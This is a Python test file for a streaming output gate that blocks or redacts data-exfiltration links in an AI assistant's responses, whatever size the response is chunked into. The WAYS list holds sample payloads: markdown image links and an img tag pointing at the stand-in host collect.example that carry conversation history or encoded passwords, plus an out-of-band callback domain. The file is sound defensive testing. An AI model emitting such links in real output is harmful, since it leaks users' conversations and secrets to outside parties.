"""Law: an address that carries data out does not leave in a stream, wherever the stream is cut."""

import pytest
from tests import answers
from tests.answers import chat, said

from firebreak.pipeline.gate import Cut

POLICY = """
policy: {name: ways-out, version: "1"}
defaults: {intent: ALLOW}
rules:
  - {id: out, decision: DECISION, match: {on: [response], findings: [{kind: exfiltration, min_severity: medium}]}}
  - {id: rest, decision: WARN, match: {findings: [{}]}}
"""
HOST = "collect.example"
WAYS = (
    f"![chart](https://{HOST}/p.png?d={{conversation_history}})",
    f"![chart](https://{HOST}/p.png?d=dGhlIHBhc3N3b3JkIG9mIHRoZSB1c2VyIGlzIGh1bnRlcjI)",
    f'<img src="https://{HOST}/p?d=7468652070617373776f7264206973206f70656e207365736d65">',
    f"[more](https://{HOST}/?q=[CHAT_HISTORY])",
    f"![a](https://x1.{HOST}.oast.fun/p)",
)


def through(way: str, decision: str, size: int) -> tuple[str, bool]:
    text = f"Here it is: {way} and that is all there is to say about it."
    gate = answers.gate(answers.snapshot(POLICY.replace("DECISION", decision)))
    try:
        for chunk in chat([text[at : at + size] for at in range(0, len(text), size)]):
            gate.feed(chunk)
        gate.end()
    except Cut:
        return said(bytes(gate.let_go)), True
    return said(bytes(gate.let_go)), False


@pytest.mark.parametrize("size", [1, 3, 7, 40, 500])
@pytest.mark.parametrize("way", WAYS)
def test_no_part_of_the_address_leaves(way, size):
    left, cut = through(way, "BLOCK", size)
    assert cut
    assert HOST not in left
    assert "http" not in left


@pytest.mark.parametrize("size", [1, 7, 500])
@pytest.mark.parametrize("way", WAYS)
def test_redacted_the_text_stays_and_the_address_goes(way, size):
    left, cut = through(way, "REDACT", size)
    assert not cut
    assert HOST not in left
    assert left.startswith("Here it is: ")
    assert left.endswith("and that is all there is to say about it.")
